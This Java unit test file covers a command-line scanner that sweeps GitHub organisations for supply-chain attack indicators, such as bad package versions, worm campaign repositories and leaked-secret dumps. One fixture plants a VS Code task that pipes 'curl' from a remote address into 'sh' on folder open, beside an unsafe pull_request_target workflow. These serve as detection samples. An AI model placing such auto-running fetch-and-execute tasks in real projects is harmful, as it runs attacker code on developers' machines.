package dev.assay.app.cli;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.app.cli.Cli.Ran;
import dev.assay.connectors.github.FakeGitHub;
import dev.assay.connectors.github.FakeRepository;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;

/** Sweeps of a server on a loopback port, as a user meets them. */
class SweepCommandTest extends SweepFixture {
    @Test
    void tellsWhereWhatAndWhoseAndReadsOnlyWhatCanMatter() {
        server.repository("acme/web")
                .commit(Map.of(
                        "app/package-lock.json", lock("4.4.2"),
                        "lib/package-lock.json", lock("4.4.2"),
                        "README.md", bytes("# x"),
                        "src/a.js", bytes("1"),
                        ".github/CODEOWNERS", bytes("* @acme/web\n/lib/ @acme/lib alice@example.org # us\n")));
        server.repository("acme/api").commit(Map.of("requirements.txt", bytes("debug==4.4.2\n")));
        Report report = sweep("github:acme");
        assertThat(report.code()).isEqualTo(ExitCode.UNSAFE);
        assertThat(found(report))
                .containsExactly(
                        "github:acme/web@main/app/package-lock.json:4 indicator/malicious-package @acme/web",
                        "github:acme/web@main/lib/package-lock.json:4 indicator/malicious-package @acme/lib"
                                + " alice@example.org");
        assertThat(report.json().at("/findings/0/evidence/path").stringValue()).isEqualTo("a@1.0.0");
        assertThat(report.gaps()).isEmpty();
        assertThat(report.coverage().at("/notes").toString()).contains("\":3}"); // a text, a script and the owners
        assertThat(report.json().at("/groups/by").stringValue()).isEqualTo("owner");
        assertThat(totals(report)).containsExactly("@acme/lib 1 in 1", "@acme/web 1 in 1", "alice@example.org 1 in 1");
        assertThat(report.json().at("/findings/0").has("groups")).isFalse(); // nobody asked for it
        // Three contents, of which one is there twice; small ones may go with one query.
        assertThat(asked())
                .hasSizeLessThanOrEqualTo(6)
                .filteredOn("tree"::equals)
                .hasSize(2);
    }

    @Test
    void whatIsUnchangedIsNotAskedForAgain() {
        for (int i = 0; i < 120; i++) {
            server.repository("acme/r" + i)
                    .commit(Map.of(
                            "package-lock.json", lock("4.3." + i % 7), // the same in many of them
                            "a.txt", bytes("text " + i)));
        }
        server.existing("acme/r40").commit(Map.of("package-lock.json", lock("4.4.2")));
        Report cold = sweep("github:acme");
        assertThat(server.asked().stream().filter(each -> each.kind().equals("tree")))
                .hasSize(120);
        assertThat(cold.coverage().at("/artifacts").intValue()).isEqualTo(120);
        assertThat(found(cold)).hasSize(1);
        assertThat(server.requests()).isLessThan(120 + 2 + 10); // texts of eight kinds, several with one query
        server.forget();
        Report again = sweep("github:acme");
        assertThat(asked()).containsExactly("query", "query"); // of a hundred repositories each
        assertThat(again.lasting()).isEqualTo(cold.lasting());
        assertThat(again.json().at("/performance/stored/trees").intValue()).isEqualTo(120);
        server.forget();
        server.existing("acme/r7")
                .commit(Map.of("package-lock.json", lock("4.3.0"), "yarn.lock", bytes("# yarn lockfile v1\n")));
        sweep("github:acme");
        assertThat(asked()).containsExactly("blob", "query", "query", "tree");
    }

    @Test
    void forksAndBranchesShareWhatIsTheSame() {
        Map<String, byte[]> files = Map.of("package-lock.json", lock("4.4.2"));
        server.repository("acme/one").commit(files);
        server.repository("acme/two").fork().commit(files);
        server.repository("acme/old").archived().commit(files);
        Report report = sweep("github:acme");
        assertThat(found(report)).hasSize(2);
        assertThat(report.coverage().at("/notes/archived repositories").intValue())
                .isEqualTo(1);
        assertThat(server.asked().stream().filter(each -> each.kind().equals("blob")))
                .hasSize(1);
        Report fewer = sweep("--exclude-forks", "github:acme");
        assertThat(found(fewer)).singleElement().asString().contains("acme/one");
        assertThat(fewer.coverage().at("/notes/forks").intValue()).isEqualTo(1);
        assertThat(found(sweep("--include-archived", "github:acme"))).hasSize(3);
    }

    @Test
    void whatGoesByItsContentIsReadWhateverItIsCalled() throws Exception {
        byte[] payload = bytes("evil\n");
        String digest =
                HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(payload));
        server.repository("acme/web")
                .commit(Map.of("src/logo.svg", payload, "README.md", bytes("x"), "latest.svg@", bytes("src/logo.svg")));
        Files.writeString(folder.resolve("new.csv"), "ecosystem,name\nsha256," + digest + "\n");
        assertThat(sweep("github:acme").coverage().at("/artifacts").intValue()).isZero();
        Report report = sweep("--indicators", "new.csv", "github:acme");
        assertThat(found(report)).singleElement().asString().startsWith("github:acme/web@main/src/logo.svg:");
        assertThat(report.gaps()).isEmpty();
        assertThat(sweep("--only", "secret", "github:acme")
                        .coverage()
                        .at("/artifacts")
                        .intValue())
                .isEqualTo(2);
    }

    @Test
    void aPatternOfBranchesThatMatchesNothingIsAGap() {
        server.repository("acme/one").commit(Map.of("go.mod", bytes("module x\n")));
        server.repository("acme/two")
                .commit(Map.of("go.mod", bytes("module x\n")))
                .commit("release-1", Map.of("go.mod", bytes("module x\n")));
        Report misspelt = sweep("--branches", "relase-*", "github:acme");
        assertThat(gaps(misspelt)).containsExactly("github:acme/ unreadable");
        assertThat(misspelt.code()).isEqualTo(ExitCode.INCOMPLETE);
        Report some = sweep("--branches", "release-*", "github:acme");
        assertThat(some.code()).isEqualTo(ExitCode.CLEAN);
        assertThat(some.coverage()
                        .at("/notes/repositories without a branch of the name that is asked for")
                        .intValue())
                .isEqualTo(1);
    }

    @Test
    void aRematchSaysWhatTheLastSweepLeftOut() {
        server.repository("acme/old").archived().commit(Map.of("package-lock.json", lock("4.4.2")));
        server.repository("acme/copy").fork().commit(Map.of("package-lock.json", lock("4.4.2")));
        server.repository("acme/web").commit(Map.of("package-lock.json", lock("4.3.0")));
        sweep("--exclude-forks", "github:acme");
        assertThat(sweep("--rematch", "--exclude-forks", "github:acme").code()).isEqualTo(ExitCode.CLEAN);
        Report report = sweep("--rematch", "--include-archived", "github:acme");
        assertThat(report.reasons())
                .containsExactlyInAnyOrder(
                        "archived repositories: the last sweep left out 1, and the server is not asked",
                        "forks: the last sweep left out 1, and the server is not asked");
        assertThat(report.code()).isEqualTo(ExitCode.INCOMPLETE);
    }

    @Test
    void eachServerHasItsListings() {
        server.repository("acme/web").commit(Map.of("package-lock.json", lock("4.3.0")));
        sweep("github:acme");
        try (FakeGitHub other = new FakeGitHub()) {
            Ran ran = cli.run("sweep", "--github-url", other.url(), "--format", "json", "--rematch", "github:acme");
            assertThat(gaps(Report.of(ran.code(), ran.out(), ran.err()))).containsExactly("github:acme/ unreachable");
        }
    }

    @Test
    void noReportHasMoreOwnersThanSomebodyReads() {
        StringBuilder owners = new StringBuilder("*");
        for (int i = 0; i < 50_000; i++) {
            owners.append(" @acme/").append(i);
        }
        server.repository("acme/web")
                .commit(Map.of(
                        "package-lock.json", lock("4.4.2"),
                        "CODEOWNERS", bytes(owners + " @" + "x".repeat(5_000) + "\n")));
        server.repository("acme/x")
                .commit(Map.of(
                        "package-lock.json", lock("4.4.2"),
                        "CODEOWNERS", bytes("* @" + "x".repeat(5_000) + "\n")));
        Report report = sweep("github:acme");
        assertThat(found(report)).first().asString().endsWith(" @acme/19 and 49981 more");
        assertThat(found(report)).last().asString().endsWith("xxx...").hasSizeLessThan(250);
        assertThat(report.json().at("/groups/totals").size()).isLessThanOrEqualTo(21);
    }

    /** Who reads everything owns nothing, and what a team has from its parent is the parent's. */
    @Test
    void findingsAreGroupedByTheTeamsThatCanMendThem() {
        Map<String, byte[]> bad = Map.of("package-lock.json", lock("4.4.2"));
        List<FakeRepository> all = new ArrayList<>();
        for (String name : List.of("api", "orphan", "shared", "web")) {
            all.add(server.repository("acme/" + name).commit(bad));
        }
        all.get(3)
                .commit(Map.of(
                        "package-lock.json", lock("4.4.2"),
                        "lib/package-lock.json", lock("4.4.2"),
                        "CODEOWNERS", bytes("/lib/ @acme/Libraries @alice\n/package-lock.json @bob\n")));
        server.team("acme", "everybody", "", "READ", all);
        server.team("acme", "platform", "", "MAINTAIN", List.of(all.get(0), all.get(2)));
        server.team("acme", "platform-eu", "platform", "MAINTAIN", List.of(all.get(0), all.get(2)));
        server.team("acme", "web", "", "WRITE", List.of(all.get(2), all.get(3)));
        Report report = sweep("--group-by", "team", "github:acme");
        assertThat(report.json().get("findings").valueStream())
                .extracting(each -> each.at("/location/target").stringValue() + " " + each.get("groups"))
                .containsExactly(
                        "github:acme/api@main [\"@acme/platform\"]",
                        "github:acme/orphan@main [\"no team\"]",
                        "github:acme/shared@main [\"@acme/platform\",\"@acme/web\"]",
                        "github:acme/web@main [\"@acme/libraries\"]",
                        "github:acme/web@main [\"@acme/web\"]");
        assertThat(totals(report))
                .containsExactly(
                        "@acme/libraries 1 in 1", "@acme/platform 2 in 2", "@acme/web 2 in 2", "no team 1 in 1");
        server.forget();
        Report again = sweep("--group-by", "team", "github:acme");
        assertThat(asked()).containsExactly("query"); // with its teams
        assertThat(again.lasting()).isEqualTo(report.lasting());
        assertThat(sweep("--group-by", "team", "--rematch", "github:acme")
                        .json()
                        .get("groups"))
                .isEqualTo(report.json().get("groups"));
        Ran text = run("--group-by", "team", "github:acme");
        assertThat(text.out().lines())
                .contains("@acme/platform: 1 critical", "@acme/platform, @acme/web: 1 critical")
                .contains("  @acme/platform    2 critical in 2 repositories");
        assertThat(sweep("--group-by", "repository", "github:acme").json().at("/groups/totals/3/group"))
                .hasToString("\"github:acme/web\"");
        assertThat(run("--branches", "", "github:acme").code()).isEqualTo(ExitCode.USAGE);
        assertThat(run("--branches", " ", "github:acme").code()).isEqualTo(ExitCode.USAGE);
        assertThat(run("--group-by", "moon", "github:acme").code()).isEqualTo(ExitCode.USAGE);
    }

    /** What nobody knows is no gap in what was judged. */
    @Test
    void teamsThatAreNotShownAreUnknown() {
        server.repository("acme/web").commit(Map.of("package-lock.json", lock("4.4.2")));
        server.teams(FakeGitHub.Teams.REFUSED);
        Report report = sweep("--group-by", "team", "github:acme");
        assertThat(report.gaps()).isEmpty();
        assertThat(totals(report))
                .singleElement()
                .asString()
                .startsWith("unknown: 127.0.0.1 forbids it, for the token's rights");
        sweep("github:acme");
        assertThat(totals(sweep("--rematch", "--group-by", "team", "github:acme")))
                .containsExactly("unknown: teams were not listed by the last sweep 1 in 1");
    }

    @Test
    void branchesPullRequestsAndTeams() {
        FakeRepository web = server.repository("acme/web")
                .commit(Map.of("package-lock.json", lock("4.3.0")))
                .commit("release-1", Map.of("package-lock.json", lock("4.4.2")))
                .commit("topic", Map.of("package-lock.json", lock("4.4.2")))
                .pull(7, Map.of("package-lock.json", lock("4.4.2")));
        server.repository("acme/other").commit(Map.of("package-lock.json", lock("4.4.2")));
        server.team("acme", "web-team", List.of(web));
        assertThat(found(sweep("--team", "web-team", "github:acme"))).isEmpty();
        assertThat(found(sweep("--branches", "all", "github:acme/web")))
                .extracting(each -> each.substring(0, each.indexOf("/package")))
                .containsExactly("github:acme/web@release-1", "github:acme/web@topic");
        assertThat(found(sweep("--branches", "release-*", "github:acme/web"))).hasSize(1);
        assertThat(found(sweep("--pull-requests", "github:acme/web")))
                .singleElement()
                .asString()
                .startsWith("github:acme/web@pull/7/head/package-lock.json");
        assertThat(found(sweep("github:acme/web@topic"))).hasSize(1);
    }

    @Test
    void campaignsAreKnownByWhatIsSaidOfARepositoryAndByWhatRunsInIt() {
        server.repository("acme/Shai-Hulud")
                .described("Shai-Hulud Migration")
                .commit(Map.of("README.md", bytes("x")))
                .commit("shai-hulud", Map.of("README.md", bytes("x")));
        server.repository("acme/empty").described("Shai-Hulud Repository");
        server.repository("acme/near").described("Notes on Shai-Hulud").commit(Map.of("README.md", bytes("x")));
        server.repository("acme/web")
                .commit(Map.of(".github/workflows/pr.yml", bytes("""
                    on: pull_request_target
                    jobs:
                      test:
                        runs-on: ubuntu-latest
                        steps:
                          - uses: actions/checkout@v4
                            with:
                              ref: ${{ github.event.pull_request.head.sha }}
                          - run: npm ci && npm test
                    """), ".vscode/tasks.json", bytes("""
                        {"version": "2.0.0", "tasks": [{"label": "x", "type": "shell",
                          "command": "curl -s https://198.51.100.7/a | sh", "runOptions": {"runOn": "folderOpen"}}]}
                        """)));
        Report report = sweep("--branches", "all", "github:acme");
        assertThat(found(report))
                .extracting(each -> each.replace(" no owner", ""))
                .contains(
                        "github:acme/Shai-Hulud/:0 indicator/campaign-repository",
                        "github:acme/Shai-Hulud/:0 indicator/campaign-branch",
                        "github:acme/empty/:0 indicator/campaign-repository")
                .anyMatch(each -> each.startsWith("github:acme/web@main/.github/workflows/pr.yml:"))
                .anyMatch(each -> each.startsWith("github:acme/web@main/.vscode/tasks.json:"))
                .noneMatch(each -> each.contains("acme/near"));
        assertThat(sweep("--branches", "all", "--rematch", "github:acme").json().get("findings"))
                .isEqualTo(report.json().get("findings"));
    }

    /** The second wave left five files in repositories that it made, three of them with names that others have as well. */
    @Test
    void whatAWormLeavesIsReadWhereItLeavesIt() {
        String once = Base64.getEncoder().encodeToString(bytes("{\"environment\": {\"GITHUB_TOKEN\": \"x\"}}"));
        byte[] dump = bytes(Base64.getEncoder().encodeToString(bytes(once)));
        server.repository("acme/qzx1")
                .commit(Map.of(
                        "cloud.json", dump, "contents.json", dump, "environment.json", dump, "lib/main.js", dump));
        server.repository("acme/qzx2")
                .commit(Map.of("actionsSecrets.json", dump, "truffleSecrets.json", dump, "data.json", dump));
        assertThat(found(sweep("github:acme")))
                .containsExactly(
                        "github:acme/qzx1@main/cloud.json:0 indicator/leaked-secrets no owner",
                        "github:acme/qzx1@main/contents.json:0 indicator/leaked-secrets no owner",
                        "github:acme/qzx1@main/environment.json:0 indicator/leaked-secrets no owner",
                        "github:acme/qzx2@main/actionsSecrets.json:0 indicator/leaked-secrets no owner",
                        "github:acme/qzx2@main/data.json:0 indicator/leaked-secrets no owner",
                        "github:acme/qzx2@main/truffleSecrets.json:0 indicator/leaked-secrets no owner");
    }

    @Test
    void newIndicatorsAreJudgedWithoutARequest() throws IOException {
        server.repository("acme/web").commit(Map.of("package-lock.json", lock("4.3.0")));
        byte[] empty = bytes("lockfileVersion: '9.0'\n\nimporters:\n\n  .: {}\n");
        server.repository("acme/late").commit(Map.of("pnpm-lock.yaml", empty));
        assertThat(sweep("github:acme").code()).isEqualTo(ExitCode.CLEAN);
        server.forget();
        Files.writeString(folder.resolve("new.txt"), "npm debug 4.3.0 # ours\n");
        Report report = sweep("--rematch", "--indicators", "new.txt", "github:acme");
        assertThat(server.requests()).isZero();
        assertThat(found(report))
                .containsExactly("github:acme/web@main/package-lock.json:4 indicator/malicious-package no owner");
        assertThat(report.gaps()).isEmpty();
        assertThat(report.json().at("/performance/stored/asked").booleanValue()).isFalse();
    }

    @Test
    void whatWasNeverReadIsAGapOfARematch() {
        assertThat(gaps(sweep("--rematch", "github:acme"))).containsExactly("github:acme/ unreachable");
        server.repository("acme/web").commit(Map.of("package-lock.json", lock("4.4.2"), "go.mod", bytes("module x\n")));
        run("--dry-run", "github:acme"); // lists it
        Report report = sweep("--rematch", "github:acme");
        assertThat(gaps(report))
                .containsExactly(
                        "github:acme/web@main/go.mod unreachable",
                        "github:acme/web@main/package-lock.json unreachable");
        assertThat(report.code()).isEqualTo(ExitCode.INCOMPLETE);
        assertThat(report.reasons()).allMatch(reason -> reason.contains("never read"));
    }

    @Test
    void whatCannotBeReadIsAGapAndTheRestGoesOn() {
        server.repository("acme/a-gone")
                .commit(Map.of("go.mod", bytes("module x\n")))
                .answering(404);
        server.repository("acme/b-blocked")
                .commit(Map.of("go.mod", bytes("module x\n")))
                .answering(451);
        server.repository("acme/c-empty");
        server.repository("acme/d-disabled").disabled().commit(Map.of("go.mod", bytes("module x\n")));
        server.repository("acme/e-modules")
                .commit(Map.of(
                        "vendored#", bytes("0123456789012345678901234567890123456789"), "package.json@", bytes("x")));
        server.repository("acme/f-lfs")
                .commit(Map.of(
                        "yarn.lock",
                        bytes("version https://git-lfs.github.com/spec/v1\n"
                                + "oid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\n"
                                + "size 12345\n")));
        FakeRepository pushed = server.repository("acme/g-pushed").commit(Map.of("go.mod", bytes("module x\n")));
        pushed.loseObjects();
        server.repository("acme/h-broken").commit(Map.of("package-lock.json", bytes("{\"packages\": {")));
        server.repository("acme/z").commit(Map.of("package-lock.json", lock("4.4.2")));
        Report report = sweep("github:acme");
        assertThat(gaps(report))
                .contains(
                        "github:acme/a-gone@main/ changed",
                        "github:acme/b-blocked@main/ unreachable",
                        "github:acme/c-empty/ unreadable",
                        "github:acme/d-disabled/ unreadable",
                        "github:acme/e-modules@main/package.json unsupported",
                        "github:acme/e-modules@main/vendored unsupported",
                        "github:acme/f-lfs@main/yarn.lock unsupported",
                        "github:acme/g-pushed@main/ changed",
                        "github:acme/h-broken@main/package-lock.json malformed");
        assertThat(gaps(report)).hasSize(9);
        assertThat(found(report)).hasSize(1);
        assertThat(report.code()).isEqualTo(ExitCode.UNSAFE);
    }

    private void organisation() {
        for (int i = 0; i < 25; i++) {
            Map<String, byte[]> files = new HashMap<>();
            files.put("package-lock.json", lock(i % 10 == 3 ? "4.4.2" : "4.3." + i));
            files.put("sub/go.mod", bytes("module example.org/m" + i + "\nrequire example.org/x v1.0." + i + "\n"));
            files.put("CODEOWNERS", bytes("* @acme/team-" + i % 4 + "\n"));
            files.put("text.md", bytes("nothing"));
            server.repository("acme/r" + i).commit(files);
        }
    }

    @Test
    void aServerThatFailsAtRandomIsReportedAsOneThatDoesNot() {
        organisation();
        String calm = sweep("github:acme").lasting();
        for (int seed = 1; seed <= Integer.getInteger("sweep.seeds", 4); seed++) {
            server.faults(seed, 30);
            cli.environment.put(
                    "ASSAY_STATE_DIR", folder.resolve("state" + seed).toString());
            assertThat(sweep("--http.retries", "8", "github:acme").lasting())
                    .as("seed %d", seed)
                    .isEqualTo(calm);
        }
    }

    @Test
    void theTokenIsNowhereButInRequests() throws IOException {
        organisation();
        server.faults(3, 20);
        for (String format : List.of("text", "json", "jsonl", "sarif", "csv", "html")) {
            Ran ran = run("--verbose", "--facts", "--format", format, "--http.retries", "8", "github:acme");
            assertThat(ran.out() + ran.err()).isNotEmpty().doesNotContain(TOKEN);
        }
        assertThat(server.asked()).allMatch(each -> each.authorization().equals("Bearer " + TOKEN));
        List<Path> written;
        try (Stream<Path> files = Files.walk(folder)) {
            written = files.filter(Files::isRegularFile).toList();
        }
        assertThat(written).isNotEmpty();
        for (Path file : written) {
            assertThat(new String(Files.readAllBytes(file), ISO_8859_1))
                    .as(file.toString())
                    .doesNotContain(TOKEN);
        }
    }

    @Test
    void dryRunListsAndReadsNoBlob() {
        organisation();
        Ran ran = run("--dry-run", "github:acme");
        assertThat(ran.code()).isZero();
        assertThat(ran.out()).contains("github:acme/r0@main/package-lock.json", "50 files; nothing was read");
        assertThat(asked()).doesNotContain("blob");
        assertThat(server.requests()).isEqualTo(26);
    }

    @Test
    void aDamagedStoreIsSetAsideAndMadeAgain() throws IOException {
        organisation();
        String first = sweep("github:acme").lasting();
        Path store = folder.resolve("state/sweep.sqlite");
        byte[] bytes = Files.readAllBytes(store);
        for (int i = 0; i < bytes.length; i += 7) {
            bytes[i] ^= 0x55;
        }
        Files.write(store, bytes);
        Report again = sweep("github:acme");
        assertThat(again.lasting()).isEqualTo(first);
        assertThat(again.err()).contains("the store of sweeps was damaged");
        assertThat(folder.resolve("state/sweep.sqlite.damaged-1")).exists();
        server.forget();
        sweep("github:acme");
        assertThat(asked()).containsExactly("query");
    }

    @Test
    void textForPeople() {
        organisation();
        Ran ran = run("github:acme");
        assertThat(ran.code()).isEqualTo(ExitCode.UNSAFE);
        assertThat(ran.out())
                .contains(
                        "github:acme/r3@main",
                        "package-lock.json:4",
                        "debug@4.4.2",
                        "@acme/team-3",
                        "0 of 25 trees from the store");
    }

    @Test
    void wrongUsageIsSaidBeforeAnythingIsAsked() {
        assertThat(run("acme").code()).isEqualTo(ExitCode.USAGE);
        assertThat(run().code()).isEqualTo(ExitCode.USAGE);
        assertThat(run("--only", "indicators", "github:acme").code()).isEqualTo(ExitCode.USAGE);
        assertThat(run("--format", "junit", "github:acme").code()).isEqualTo(ExitCode.USAGE);
        cli.environment.remove("GITHUB_TOKEN");
        Ran ran = run("github:acme");
        assertThat(ran.code()).isEqualTo(ExitCode.INCOMPLETE);
        assertThat(ran.out()).contains("token");
        assertThat(server.requests()).isZero();
    }
}
